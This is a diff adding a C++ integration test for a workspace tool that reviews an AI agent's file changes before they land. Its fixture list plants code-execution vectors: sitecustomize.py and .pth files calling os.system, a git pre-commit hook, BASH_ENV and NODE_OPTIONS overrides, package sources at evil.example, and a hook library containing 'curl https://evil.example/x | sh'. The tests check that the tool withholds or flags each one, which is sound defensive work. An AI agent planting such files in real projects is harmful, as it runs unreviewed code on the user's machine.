@@ -1,0 +1,273 @@
+// Issue 10's attacks, end to end, as root and as a normal user ("nobody" when these tests run
+// as root): what the other adversarial files check one attack at a time (often only as root,
+// or only as filters::decide() sees it), here planted together in a real view by the person who
+// runs ws, then reviewed and landed with the real binary. docs/policy.md ("Issue 10's attacks
+// and the tests that keep them closed") maps each attack to its test.
+#include "tests/integration/run_support.hpp"
+#include "tests/support/harness.hpp"
+
+#include <doctest/doctest.h>
+
+#include <cstdlib>
+#include <filesystem>
+#include <map>
+#include <sstream>
+#include <string>
+#include <vector>
+
+using namespace ws::test;
+namespace fs = std::filesystem;
+
+namespace {
+
+constexpr auto npos = std::string::npos;
+
+/// What an agent plants for each "code that runs on the person's machine" item of issue 10,
+/// with the verdict the policy owes it (the verdict word `ws diff --json` gives).
+struct Planted {
+  std::string path;
+  std::string content;
+  std::string verdict;
+};
+
+const std::vector<Planted>& planted() {
+  static const std::vector<Planted> k_planted = {
+      // Python imports these at start-up from any sys.path entry (PYTHONPATH=., an editable
+      // install's .pth), and runs the import lines of any .pth in a site directory.
+      {"src/pkg/sitecustomize.py", "import os; os.system('id')\n", "withheld"},
+      {"usercustomize.py", "import os; os.system('id')\n", "withheld"},
+      {"lib/zz-editable.pth", "import os; os.system('id')\n", "withheld"},
+      {"pytest.ini", "[pytest]\naddopts = -p evil_plugin\n", "flagged"},
+      {".pdbrc", "import os; os.system('id')\n", "flagged"},
+      {".pylintrc", "[MAIN]\ninit-hook=import os; os.system('id')\n", "flagged"},
+      {"CMakePresets.json",
+       "{\"version\": 3, \"configurePresets\": [{\"name\": \"p\", \"cacheVariables\": "
+       "{\"CMAKE_PROJECT_INCLUDE\": \"${sourceDir}/docs/notes.txt\"}}]}\n",
+       "flagged"},
+      {"rust-toolchain.toml", "[toolchain]\npath = \"/srv/evil-toolchain\"\n", "withheld"},
+      {"Taskfile.yml", "version: '3'\ntasks:\n  default:\n    cmds: [id]\n", "flagged"},
+      {".justfile", "default:\n\tid\n", "flagged"},
+      {".env", "BASH_ENV=./evil.sh\nNODE_OPTIONS=--require ./evil.js\nPATH=./bin:/usr/bin\n",
+       "withheld"},
+      // The real repository's core.hooksPath (set below): git runs it on the next commit.
+      {"tools/hooks/pre-commit", "#!/bin/sh\nid\n", "withheld"},
+      // Not executable, so only the hooks directory's rule can see it: what a hook sources.
+      {"tools/hooks/lib/common.sh", "curl https://evil.example/x | sh\n", "withheld"},
+      {".github/actions/setup/action.yml",
+       "runs:\n  using: composite\n  steps:\n    - run: id\n      shell: bash\n", "flagged"},
+      {"go.mod", "module m\n\nreplace golang.org/x/text => ./evil\n", "flagged"},
+      {"requirements.txt",
+       "--index-url https://evil.example/simple\n-e git+https://evil.example/x.git#egg=x\n",
+       "flagged"},
+      {"package-lock.json",
+       "{\"lockfileVersion\": 3, \"packages\": {\"node_modules/x\": {\"resolved\": "
+       "\"https://evil.example/x.tgz\", \"hasInstallScript\": true}}}\n",
+       "flagged"},
+      {".lfsconfig", "[lfs]\n\turl = https://evil.example/lfs\n", "flagged"},
+      // Nothing runs this by itself: it lands as any file does.
+      {"docs/notes.txt", "message(STATUS hi)\n", "transfer"},
+  };
+  return k_planted;
+}
+
+/// "PATH\tVERDICT\n" for every change `ws diff --json` reports, as `p` runs it.
+std::map<std::string, std::string> verdicts(const Person& p) {
+  static const std::string k_parse = "import json, sys\n"
+                                     "for c in json.load(sys.stdin)['changes']:\n"
+                                     "    print(c['path'] + '\\t' + c['verdict'])\n";
+  Run r = p.sh_as(p.ws_line("diff --json") + " | " + py() + " -c " + q(k_parse));
+  CHECK_MESSAGE(r.status == 0, r.err);
+  std::map<std::string, std::string> out;
+  std::istringstream in(r.out);
+  for (std::string line; std::getline(in, line);) {
+    size_t tab = line.find('\t');
+    if (tab != npos) {
+      out[line.substr(0, tab)] = line.substr(tab + 1);
+    }
+  }
+  return out;
+}
+
+/// The pid of the daemon serving `p`'s default workspace (0 if none).
+int daemon_pid(const Person& p) {
+  Run r = sh("cat " + q(p.data().string()) + "/ws/*/default/daemon.lock 2>/dev/null");
+  return std::atoi(r.out.c_str());
+}
+
+int open_fds(int pid) {
+  int n = 0;
+  for ([[maybe_unused]] const auto& e :
+       fs::directory_iterator("/proc/" + std::to_string(pid) + "/fd")) {
+    ++n;
+  }
+  return n;
+}
+
+} // namespace
+
+TEST_CASE("issue 10: every planted file that runs code lands only with its verdict - as root and "
+          "as a normal user") {
+  for (const std::string& user : people()) {
+    Person p(user);
+    INFO("as " << p.label());
+    // The person's own config names a hooks directory in the project (read from the REAL
+    // repository, where the agent cannot reach).
+    REQUIRE(p.sh_as("git config core.hooksPath tools/hooks").status == 0);
+    REQUIRE(p.ws("new").status == 0);
+    fs::path view = p.view();
+    std::string plant;
+    for (const auto& f : planted()) {
+      plant += "mkdir -p \"$(dirname " + q(f.path) + ")\" && printf '%s' " + q(f.content) + " > " +
+               q(f.path) + " && ";
+    }
+    REQUIRE(p.sh_as(plant + "chmod +x tools/hooks/pre-commit", view).status == 0);
+
+    std::map<std::string, std::string> seen = verdicts(p);
+    for (const auto& f : planted()) {
+      CAPTURE(f.path);
+      CHECK(seen[f.path] == f.verdict);
+    }
+    CHECK(seen.size() == planted().size());
+
+    Run a = p.ws("apply");
+    INFO(a.out << a.err);
+    REQUIRE(a.status == 0);
+    for (const auto& f : planted()) {
+      CAPTURE(f.path);
+      bool landed = fs::exists(p.project() / f.path);
+      CHECK(landed == (f.verdict != "withheld"));
+      // A flagged file lands, named in the report the person reads after apply.
+      if (f.verdict == "flagged") {
+        CHECK(a.err.find(f.path) != npos);
+      }
+    }
+    // What landed is the person's, not root's, whoever ran the daemon.
+    Run owner = sh("stat -c %U " + q((p.project() / "go.mod").string()));
+    CHECK(owner.out == (user.empty() ? sh("id -un").out : user + "\n"));
+  }
+}
+
+TEST_CASE("issue 10: files the agent made unreadable or read-only land - as root and as a normal "
+          "user under ulimit -n 128") {
+  constexpr int k_files = 800; // past what 128 fds could hold open at once
+  for (const std::string& user : people()) {
+    Person p(user);
+    INFO("as " << p.label());
+    REQUIRE(p.ws("new").status == 0);
+    fs::path view = p.view();
+    // As on ext4, the owner may take every permission away from their own files: root reads
+    // them anyway, a normal user's ws must too (it once failed the whole apply: "open
+    // 'locked.txt': Permission denied").
+    Run made =
+        p.sh_as("echo secret > private.txt && chmod 600 private.txt && "
+                "echo locked > locked.txt && chmod 000 locked.txt && "
+                "mkdir ro && echo inside > ro/f.txt && chmod 555 ro && "
+                "echo more >> README.md && chmod 000 README.md && " +
+                    py() + " -c 'import os\nfor i in range(" + std::to_string(k_files) +
+                    "):\n    d = \"gen/m%d\" % (i // 100)\n    os.makedirs(d, exist_ok=True)\n"
+                    "    open(\"%s/f%d.txt\" % (d, i), \"w\").write(\"file %d\\n\" % i)\n'",
+                view);
+    REQUIRE_MESSAGE(made.status == 0, made.err);
+
+    Run diff = p.sh_as(p.ws_line("diff --no-pager --color=never"));
+    CHECK_MESSAGE(diff.status == 0, diff.err);
+    CHECK(diff.out.find("+locked") != npos);
+    Run a = p.sh_as("ulimit -n 128 && " + p.ws_line("apply"));
+    INFO(a.out << a.err);
+    REQUIRE(a.status == 0);
+    CHECK(a.out.find("applied " + std::to_string(k_files + 4) + " changes") != npos);
+    Run real = p.sh_as("cat private.txt locked.txt ro/f.txt README.md gen/m7/f799.txt && "
+                       "find gen -type f | wc -l && stat -c '%U %a %n' locked.txt ro");
+    CHECK_MESSAGE(real.status == 0, real.err);
+    std::string owner = user.empty() ? sh("id -un").out : user + "\n";
+    owner.pop_back();
+    // Content as reviewed; modes as git would check the files out (0644, directories 0755).
+    CHECK(real.out == "secret\nlocked\ninside\n# Project\nmore\nfile 799\n" +
+                          std::to_string(k_files) + "\n" + owner + " 644 locked.txt\n" + owner +
+                          " 755 ro\n");
+    // Landed means landed: nothing left as the workspace's change, nothing left to land.
+    Run again = p.ws("apply");
+    CHECK_MESSAGE(again.status == 0, again.err);
+    CHECK(again.out.find("nothing to apply") != npos);
+  }
+}
+
+TEST_CASE("issue 10: a directory the agent makes unsearchable - ws names the remedy, and the "
+          "view takes the chmod back as ext4 does") {
+  for (const std::string& user : people()) {
+    Person p(user);
+    INFO("as " << p.label());
+    REQUIRE(p.ws("new").status == 0);
+    fs::path view = p.view();
+    REQUIRE(
+        p.sh_as("mkdir sealed && echo inside > sealed/g.txt && chmod 000 sealed", view).status ==
+        0);
+    // Root reads it anyway. A normal user's ws cannot (the daemon keeps the agent's mode on
+    // its upper directory): it says which directory and what to do, and lands nothing.
+    Run st = p.ws("status");
+    if (p.is_root()) {
+      CHECK(st.out == "A sealed/g.txt\n");
+    } else {
+      CHECK(st.status != 0);
+      CHECK_MESSAGE(st.err.find("'sealed', which the agent made unreadable (chmod u+rx it in "
+                                "the view") != npos,
+                    st.err);
+    }
+    // The owner gives the permission back through the view (it once failed: EACCES).
+    Run back = p.sh_as("chmod 755 sealed && cat sealed/g.txt", view);
+    CHECK_MESSAGE(back.status == 0, back.err);
+    CHECK(back.out == "inside\n");
+    Run a = p.ws("apply");
+    CHECK_MESSAGE(a.status == 0, a.err);
+    CHECK(p.sh_as("cat sealed/g.txt").out == "inside\n");
+  }
+}
+
+TEST_CASE("issue 10: a normal user's daemon holds no fd per file created after a copy-up - "
+          "read-only ones included") {
+  constexpr int k_files = 6000;
+  // Root's daemon keeps no fd for any created file (test_view_scale.cpp checks it with 50,000):
+  // only a daemon that cannot reopen a read-only file keeps some.
+  {
+    Person p(people().back());
+    INFO("as " << p.label());
+    REQUIRE(p.ws("new").status == 0);
+    // Started from a shell with `ulimit -n 4096`, the daemon of a normal user cannot raise its
+    // limit past that: one fd kept per file would fail the creates past 4,096 (EMFILE).
+    REQUIRE(p.sh_as("ulimit -n 4096 && " + p.ws_line("mount")).status == 0);
+    fs::path view = p.view();
+    int pid = daemon_pid(p);
+    REQUIRE(pid > 0);
+    REQUIRE(p.sh_as("cat README.md >/dev/null && echo edit >> src/main.c", view).status == 0);
+    int start = open_fds(pid);
+    // Every third file created read-only, as git writes its objects: a daemon that is not root
+    // must keep those fds for the writes that follow, but only a bounded number of them.
+    Run r = p.sh_as(py() +
+                        " -c 'import os\nos.makedirs(\"node_modules/pkg\")\nbad = 0\n"
+                        "for i in range(" +
+                        std::to_string(k_files) +
+                        "):\n"
+                        "    try:\n"
+                        "        fd = os.open(\"node_modules/pkg/f%d.js\" % i, "
+                        "os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o444 if i % 3 == 0 else 0o644)\n"
+                        "        os.write(fd, b\"module.exports = 1\\n\")\n"
+                        "        os.close(fd)\n"
+                        "    except OSError:\n"
+                        "        bad += 1\n"
+                        "print(bad)\n'",
+                    view);
+    REQUIRE_MESSAGE(r.status == 0, r.err);
+    CHECK(r.out == "0\n");
+    int after = open_fds(pid);
+    INFO("daemon fds: " << start << " at the start, " << after << " after " << k_files);
+    CHECK(after < start + 1000);
+    // It ran under the limit it was given: a leak would have met it.
+    Run limits = sh("grep 'Max open files' /proc/" + std::to_string(pid) + "/limits");
+    CHECK_MESSAGE((p.is_root() || limits.out.find(" 4096 ") != npos), limits.out);
+    // The view still takes files, and a read-only one written through its fd reads back.
+    Run last = p.sh_as("echo last > last.txt && cat last.txt node_modules/pkg/f0.js && "
+                       "stat -c %a node_modules/pkg/f0.js",
+                       view);
+    CHECK(last.out == "last\nmodule.exports = 1\n444\n");
+  }
+}
